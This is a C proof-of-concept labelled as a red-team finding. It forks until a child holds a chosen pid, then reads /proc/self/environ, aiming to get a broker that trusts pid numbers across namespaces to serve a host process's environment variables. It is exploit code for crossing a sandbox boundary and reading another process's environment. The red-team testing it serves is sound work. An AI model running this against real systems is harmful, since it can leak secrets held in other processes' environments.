// Red team finding 08: under a pid namespace whose /proc is an ancestor namespace's procfs,
// a process whose pid (in its own namespace) equals a host process's would be served that
// host process's /proc/self by a broker that trusts the numbers to match.
//
// Usage: proc_alias raw|libc TARGET
// Forks until a child's pid (getpid(), its own namespace's numbering) is TARGET; that child
// opens /proc/self/environ (raw: syscall(SYS_openat); libc: open()) and prints
// "read /proc/self/environ:" and what it read, NULs as newlines, or "errno N". Exits 0 when
// the target was reached, 1 when a child's pid passed it (or fork failed).
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static void read_self(int raw) {
    int fd = raw ? (int)syscall(SYS_openat, AT_FDCWD, "/proc/self/environ", O_RDONLY)
                 : open("/proc/self/environ", O_RDONLY);
    if (fd < 0) {
        printf("errno %d\n", errno);
        return;
    }
    char buf[8192];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    if (n < 0) {
        printf("errno %d\n", errno);
        return;
    }
    for (ssize_t j = 0; j < n; j++) {
        if (buf[j] == 0) {
            buf[j] = '\n';
        }
    }
    buf[n] = 0;
    printf("read /proc/self/environ:\n%s\n", buf);
}

int main(int argc, char **argv) {
    if (argc != 3 || (strcmp(argv[1], "raw") != 0 && strcmp(argv[1], "libc") != 0)) {
        fprintf(stderr, "usage: proc_alias raw|libc TARGET\n");
        return 64;
    }
    int raw = strcmp(argv[1], "raw") == 0;
    pid_t target = (pid_t)atol(argv[2]);
    fflush(stdout);
    for (;;) {
        pid_t c = fork();
        if (c == 0) {
            if (getpid() == target) {
                read_self(raw);
                fflush(stdout);
            }
            _exit(0);
        }
        if (c < 0) {
            perror("fork");
            return 1;
        }
        waitpid(c, 0, 0);
        if (c == target) {
            return 0;
        }
        if (c > target) {
            printf("passed the target: %d > %d\n", (int)c, (int)target);
            return 1;
        }
    }
}
